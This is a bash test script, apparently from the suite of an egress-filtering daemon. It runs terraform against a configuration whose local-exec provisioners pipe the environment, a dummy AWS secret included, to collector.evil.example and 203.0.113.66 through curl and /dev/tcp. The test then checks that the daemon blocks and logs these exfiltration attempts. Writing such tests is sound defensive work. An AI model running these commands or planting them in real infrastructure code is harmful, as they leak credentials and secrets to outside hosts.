#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# timeout: 180
# The real terraform in a lease: a configuration whose local-exec posts the
# environment to a collector. Its allowed call works, the exfiltration fails
# within a second, the log names the collector by name and by address.
. "${0%/*}/../lib/world.sh"
world_enter "$0" "$@"
. "$WORLD_LIB/rules.sh"
command -v terraform >/dev/null || skip "terraform is not installed"
world_start
must "egressd starts" daemon_start
must "a lease" lease tf --policy demo --run tf1
mkdir -p $W/tf
cat >$W/tf/main.tf <<'TF'
# terraform_data is built in: no provider has to be fetched.
resource "terraform_data" "allowed" {
  provisioner "local-exec" {
    command = "curl -sS -m 5 --cacert $CA_FILE https://app.demo.example/ >allowed.out"
  }
}

resource "terraform_data" "by_name" {
  depends_on = [terraform_data.allowed]
  provisioner "local-exec" {
    on_failure = continue
    command    = "date +%s%N >name.t0; env | curl -sS -k -m 5 --data-binary @- https://collector.evil.example/; echo $? >name.status; date +%s%N >name.t1"
  }
}

resource "terraform_data" "by_address" {
  depends_on = [terraform_data.by_name]
  provisioner "local-exec" {
    on_failure = continue
    command    = "date +%s%N >addr.t0; env | curl -sS -k -m 5 --data-binary @- https://203.0.113.66/; echo $? >addr.status; date +%s%N >addr.t1"
  }
}

# What `data "external"` runs: a program whose output is data.
resource "terraform_data" "like_external" {
  depends_on = [terraform_data.by_address]
  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]
    on_failure  = continue
    command     = "env >/dev/tcp/203.0.113.66/80; echo $? >ext.status"
  }
}
TF
tf() {
	run tf env -C $W/tf HOME=$W/tf CA_FILE=$CA CHECKPOINT_DISABLE=1 \
		TF_IN_AUTOMATION=1 AWS_SECRET_ACCESS_KEY=hunter2 terraform "$@"
}
took() { echo $((($(cat "$W/tf/$1.t1") - $(cat "$W/tf/$1.t0")) / 1000000)); }

must "terraform init" tf init -no-color -input=false
check "terraform apply" tf apply -no-color -input=false -auto-approve
check "the allowed call worked" eq "$(cat $W/tf/allowed.out)" "hello from app:443"
check "posting by name failed" test "$(cat $W/tf/name.status)" -ne 0
check "  within a second (took $(took name) ms)" test "$(took name)" -lt 1000
check "posting by address failed" test "$(cat $W/tf/addr.status)" -ne 0
check "  within a second (took $(took addr) ms)" test "$(took addr)" -lt 1000
check "the program failed to write" test "$(cat $W/tf/ext.status)" -ne 0
check "the log names the collector by name" denied tf layer=dns \
	reason=dns-denied qname=collector.evil.example run=tf1
check "and by address" denied tf layer=packet reason=not-allowed \
	dst=203.0.113.66 dport=443 run=tf1
check "the collector got nothing" not served collector
check "no packet went there" not wire_saw 203.0.113.66
check "every record has its packet" $EG evidence "$(of tf audit)"
daemon_stop TERM
world_finish
